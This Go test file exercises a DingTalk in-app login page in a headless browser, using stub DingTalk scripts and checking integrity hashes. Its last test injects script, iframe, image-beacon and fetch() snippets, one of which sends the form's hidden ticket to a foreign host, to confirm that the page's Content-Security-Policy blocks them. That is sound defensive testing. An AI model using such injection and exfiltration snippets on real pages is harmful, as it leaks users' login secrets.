package pages

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/dingbridge/dingbridge/provider/pages/chromium"
)

// A clientStage is our server, with the page inside DingTalk's client, and the host of
// DingTalk's script.
type clientStage struct {
	ours, theirs *httptest.Server
	page         Page
	script       string // what DingTalk's script is; empty if there is none
	stay         bool   // the post is answered with nothing, so that the page stays
	held         bool   // and so is the ordinary login
	arrived      chan string
}

func newClientStage(t *testing.T) *clientStage {
	t.Helper()
	s := &clientStage{arrived: make(chan string, 16)}
	p := newPages(t, theirs)
	s.ours = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == http.MethodPost && r.URL.Path == "/login/inapp":
			// What the hall checks: the origin of the post is ours, and is told.
			if r.Header.Get("Origin") != s.ours.URL || r.Header.Get("Sec-Fetch-Site") != "same-origin" {
				t.Errorf("posted with %v", r.Header)
			}
			if err := r.ParseForm(); err != nil || r.PostForm.Get("ticket") != "AbC-_9" || len(r.PostForm) != 2 {
				t.Errorf("posted %v: %v", r.PostForm, err)
			}
			s.arrived <- "code " + r.PostForm.Get("code")
			if s.stay {
				w.WriteHeader(http.StatusNoContent)
				return
			}
			http.Redirect(w, r, "/end", http.StatusSeeOther)
		case r.URL.Path == "/ordinary":
			s.arrived <- "ordinary"
			if s.held {
				w.WriteHeader(http.StatusNoContent)
				return
			}
			http.Redirect(w, r, "/end", http.StatusSeeOther)
		case r.URL.Path == "/end":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, `<!DOCTYPE html><title>end</title><link rel="icon" href="data:,"><p id="end">end</p>`)
		case r.URL.Path == "/login/inapp":
			p.Write(w, r, http.StatusOK, s.page)
		default:
			t.Errorf("our server was asked for %s", r.URL.Path)
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.ours.Close)
	s.theirs = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Referer") != "" {
			t.Errorf("DingTalk learns of %s", r.Header.Get("Referer"))
		}
		if s.script == "" || r.URL.Path != "/dingding/dingtalk.open.js" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, s.script)
	}))
	t.Cleanup(s.theirs.Close)
	return s
}

// show opens the page. Only where DingTalk never answers does patience run out.
func (s *clientStage) show(t *testing.T, ctx context.Context, tap bool, seconds int) {
	t.Helper()
	s.page = Page{Kind: InApp, Lang: English, ClientName: "Grafana", Form: &Form{Action: "/login/inapp", Hidden: []Field{{"ticket", "AbC-_9"}}},
		InApp: &InAppLogin{ScriptURL: s.theirs.URL + "/dingding/dingtalk.open.js", CorpID: "ding<1>", ClientID: `ding"2`,
			FallbackURL: "/ordinary", HomeURL: "https://app.example.com/", Tap: tap, Seconds: seconds}}
	must(t, chromedp.Do(ctx, chromedp.Navigate("about:blank"), chromedp.Navigate(s.ours.URL+"/login/inapp")))
}

func (s *clientStage) await(t *testing.T, ctx context.Context) string {
	t.Helper()
	ctx, end := context.WithTimeout(ctx, time.Minute)
	defer end()
	select {
	case what := <-s.arrived:
		return what
	case <-ctx.Done():
		t.Fatal("the page leads nowhere")
		return ""
	}
}

// whatever DingTalk's script may be and do, with where the page goes then.
var clientScripts = []struct{ name, script, want string }{
	{"answers by a call", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: "c1"}); }}`, "code c1"},
	{"answers later", `window.dd = {requestAuthCode: function (o) { setTimeout(o.onSuccess, 50, {code: "c2"}); }}`, "code c2"},
	{"answers by a promise", `window.dd = {requestAuthCode: function () { return Promise.resolve({code: "c3"}); }}`, "code c3"},
	{"answers by both", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: "c4"}); return Promise.resolve({code: "c4"}); }}`, "code c4"},
	{"promises nothing, and answers by a call", `window.dd = {requestAuthCode: function (o) { setTimeout(o.onSuccess, 50, {code: "c5"}); return Promise.resolve(); }}`, "code c5"},
	{"is asked for whom", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: o.corpId + "|" + o.clientId}); }}`, `code ding<1>|ding"2`},
	{"needs to be called as its own", `window.dd = {mine: "c6", requestAuthCode: function (o) { o.onSuccess({code: this.mine}); }}`, "code c6"},
	{"gives odd characters", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: "a&b=c+d%20 \"'<>\u5f20\ud83d\ude00"}); }}`, "code a&b=c+d%20 \"'<>张😀"},
	{"knows only the old question", `window.dd = {runtime: {permission: {requestAuthCode: function (o) { o.onSuccess({code: "c7"}); }}}}`, "code c7"},
	{"refuses the new question by a promise, as an old client", `window.dd = {requestAuthCode: function () { return Promise.reject({errorCode: 4050}); },
		runtime: {permission: {requestAuthCode: function (o) { o.onSuccess({code: "c8"}); }}}}`, "code c8"},
	{"fails at both", `window.dd = {requestAuthCode: function (o) { o.onFail({}); return Promise.reject({}); },
		runtime: {permission: {requestAuthCode: function (o) { o.onFail({errorCode: 3}); }}}}`, "ordinary"},
	{"fails", `window.dd = {requestAuthCode: function (o) { o.onFail({errorCode: "7"}); }}`, "ordinary"},
	{"fails by a promise", `window.dd = {requestAuthCode: function () { return Promise.reject(new Error("no")); }}`, "ordinary"},
	{"is cancelled", `window.dd = {requestAuthCode: function (o) { o.onCancel({errorCode: "-1"}); }}`, "ordinary"},
	{"throws when asked", `window.dd = {requestAuthCode: function () { throw new Error("no"); }}`, "ordinary"},
	{"throws when loaded", `throw new Error("no")`, "ordinary"},
	{"is no script", `<html>`, "ordinary"},
	{"has no dd", `window.other = 1`, "ordinary"},
	{"has a dd without the question", `window.dd = {runtime: {}}`, "ordinary"},
	{"has a dd that is null", `window.dd = null`, "ordinary"},
	{"is missing", "", "ordinary"},
	{"gives no code", `window.dd = {requestAuthCode: function (o) { o.onSuccess({}); }}`, "ordinary"},
	{"gives nothing", `window.dd = {requestAuthCode: function (o) { o.onSuccess(); }}`, "ordinary"},
	{"gives an empty code", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: ""}); }}`, "ordinary"},
	{"gives a number", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: 7}); }}`, "ordinary"},
	{"gives a huge code", `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: "y".repeat(1 << 20)}); }}`, "ordinary"},
}

// Whatever DingTalk does, the page ends in one place, once.
func TestP18_InsideTheClient(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	for _, row := range clientScripts {
		s.script = row.script
		s.show(t, ctx, false, 3600)
		if got := s.await(t, ctx); got != row.want {
			t.Errorf("DingTalk's script %s: %q, want %q", row.name, got, row.want)
		}
		must(t, chromedp.Do(ctx, chromedp.WaitVisible("#end")))
		if len(s.arrived) > 0 {
			t.Errorf("DingTalk's script %s: then %q", row.name, <-s.arrived)
		}
	}
	// Never answering is found out by time alone.
	s.script = `window.dd = {requestAuthCode: function () {}}`
	s.show(t, ctx, false, 1)
	if got := s.await(t, ctx); got != "ordinary" {
		t.Errorf("no answer leads to %q", got)
	}
}

// The page stays after the post, and DingTalk's script goes on to answer.
func TestP18_AnsweredTwice(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	s.stay = true
	s.script = `window.dd = {requestAuthCode: function (o) { window.asked = (window.asked || []).concat([o]); o.onSuccess({code: "first"}); o.onSuccess({code: "second"}); o.onFail({}); }}`
	// Patience runs out when it is told to.
	call(t, ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `window.timers = []; window.setTimeout = function (run) { timers.push(run); return timers.length; };`})
	s.show(t, ctx, false, 3600)
	if got := s.await(t, ctx); got != "code first" {
		t.Errorf("arrived: %q", got)
	}
	if timers := ask[int](t, ctx, `(timers.forEach(function (run) { run(); }), timers.length)`); timers != 1 {
		t.Errorf("%d times of patience", timers)
	}
	again := ask[int](t, ctx, `(asked[0].onSuccess({code: "third"}), asked[0].onFail({}), asked[0].onCancel({}), asked.length)`)
	must(t, chromium.Click(ctx, "#ordinary"))
	must(t, chromedp.Do(ctx, chromedp.WaitVisible("#end")))
	if got := s.await(t, ctx); got != "ordinary" || len(s.arrived) > 0 || again != 1 {
		t.Errorf("then %q, after %d questions", got, again)
	}
}

// DingTalk's script answers when the page has left, or has asked the older question.
func TestP18_AnsweredTooLate(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	s.stay, s.held = true, true
	s.script = `window.dd = {requestAuthCode: function (o) { window.first = o; }, runtime: {permission: {requestAuthCode: function (o) { window.second = o; }}}}`
	call(t, ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `window.timers = []; window.setTimeout = function (run) { timers.push(run); return timers.length; };`})
	asked := `new Promise(function (done) { (function look() { if (window.first) done(true); else requestAnimationFrame(look); })(); })`
	for _, row := range []struct{ name, script, want string }{
		{"after patience has run out", `(timers.forEach(function (run) { run(); }), first.onSuccess({code: "late"}), true)`, "ordinary"},
		{"after it has failed", `(first.onFail({}), first.onSuccess({code: "late"}), second.onSuccess({code: "second"}), true)`, "code second"},
	} {
		s.show(t, ctx, false, 3600)
		_, err := chromedp.Run(ctx, chromedp.Evaluate[bool](asked, chromedp.EvalAwaitPromise))
		must(t, err)
		ask[bool](t, ctx, row.script)
		if got := s.await(t, ctx); got != row.want {
			t.Errorf("%s: %q, want %q", row.name, got, row.want)
		}
		goOn(t, ctx, s.ours.URL+"/end")
		if len(s.arrived) > 0 {
			t.Errorf("%s: then %q", row.name, <-s.arrived)
		}
	}
}

// goOn leaves a page whose own way out is answered with nothing: as long as that answer
// is not there, the browser may give up what it is told meanwhile.
func goOn(t *testing.T, ctx context.Context, url string) {
	t.Helper()
	for {
		went, err := chromedp.Call(ctx, page.Navigate, page.NavigateParams{URL: url})
		must(t, err)
		if went.ErrorText != "net::ERR_ABORTED" {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	must(t, chromedp.Do(ctx, chromedp.WaitVisible("#end")))
}

// With Tap nothing happens before the button is pressed, whatever the script does.
func TestP18_Tap(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	for _, row := range []struct{ name, script, want string }{
		{"answers", `window.dd = {requestAuthCode: function (o) { window.asked = true; o.onSuccess({code: "c1"}); }}; window.loaded = true`, "code c1"},
		{"fails", `window.dd = {requestAuthCode: function (o) { window.asked = true; o.onFail({}); }}; window.loaded = true`, "ordinary"},
		{"throws", `window.loaded = true; throw new Error("no")`, "ordinary"},
		{"is missing", "", "ordinary"},
	} {
		s.script = row.script
		s.show(t, ctx, true, 3600)
		loaded := `new Promise(function (done) { (function look() { if (window.loaded || performance.getEntriesByType("resource").length) done(!window.asked); else setTimeout(look, 10); })(); })`
		idle, err := chromedp.Run(ctx, chromedp.Evaluate[bool](loaded, chromedp.EvalAwaitPromise))
		must(t, err)
		if !idle || len(s.arrived) > 0 {
			t.Errorf("DingTalk's script %s: something happened before the press", row.name)
		}
		must(t, chromium.Click(ctx, "#enter"))
		if got := s.await(t, ctx); got != row.want {
			t.Errorf("DingTalk's script %s: %q, want %q", row.name, got, row.want)
		}
		must(t, chromedp.Do(ctx, chromedp.WaitVisible("#end")))
		if len(s.arrived) > 0 {
			t.Errorf("DingTalk's script %s: then %q", row.name, <-s.arrived)
		}
	}
	// Pressed twice, asked once.
	s.script, s.stay = `window.dd = {requestAuthCode: function (o) { window.asked = (window.asked || 0) + 1; o.onSuccess({code: "c2"}); }}`, true
	s.show(t, ctx, true, 3600)
	must(t, chromium.Click(ctx, "#enter"))
	if got := s.await(t, ctx); got != "code c2" {
		t.Errorf("arrived: %q", got)
	}
	if times := ask[int](t, ctx, `(document.getElementById("enter").click(), asked)`); times != 1 || len(s.arrived) > 0 {
		t.Errorf("asked %d times", times)
	}
}

// An engine without script shows links that lead in.
func TestP18_ClientWithoutScript(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	runScripts(t, ctx, false)
	for _, button := range []string{"#ordinary", "#enter"} {
		s.show(t, ctx, true, 1)
		must(t, chromedp.Do(ctx, chromedp.Click(button)))
		if got := s.await(t, ctx); got != "ordinary" {
			t.Errorf("%s leads to %q", button, got)
		}
		must(t, chromedp.Do(ctx, chromedp.WaitVisible("#end")))
	}
}

// Where the operator gives the script's hash, another script is none.
func TestP18_Integrity(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	s.script = `window.dd = {requestAuthCode: function (o) { o.onSuccess({code: "c1"}); }}`
	for hash, want := range map[string]string{hashSource(s.script): "code c1", hashSource("another"): "ordinary"} {
		s.show(t, ctx, true, 3600) // not yet begun
		s.page.InApp.Tap, s.page.InApp.Integrity = false, strings.Trim(hash, "'")
		must(t, chromedp.Do(ctx, chromedp.Navigate(s.ours.URL+"/login/inapp")))
		if got := s.await(t, ctx); got != want {
			t.Errorf("%s leads to %q, want %q", hash, got, want)
		}
	}
}

// The policy lets in that script, and no other of the same host.
func TestP16_ScriptPolicyInARealBrowser(t *testing.T) {
	ctx := chromium.StartUnraced(t, 8*time.Minute)
	s := newClientStage(t)
	s.script = `window.dd = {}`
	trouble := watch(t, ctx, func(string) bool { return true })
	s.show(t, ctx, true, 3600)
	for _, line := range trouble.lines() {
		t.Errorf("the script itself: %s", line)
	}
	for directive, attack := range map[string]string{
		"script-src":  `var e = document.createElement("script"); e.src = "` + s.theirs.URL + `/other.js"; document.body.appendChild(e)`,
		"frame-src":   `var e = document.createElement("iframe"); e.src = "` + s.theirs.URL + `/"; document.body.appendChild(e)`,
		"connect-src": `fetch("` + s.theirs.URL + `/?" + document.getElementById("form").elements[0].value).catch(function () {})`,
		"img-src":     `new Image().src = "` + s.theirs.URL + `/"`,
	} {
		ask[bool](t, ctx, `(function () { `+attack+`; return true; })()`)
		var lines []string
		for len(lines) == 0 && ctx.Err() == nil {
			time.Sleep(10 * time.Millisecond)
			lines = trouble.lines()
		}
		if len(lines) == 0 || !strings.Contains(lines[0], directive) {
			t.Errorf("%s: %q", directive, lines)
		}
	}
}
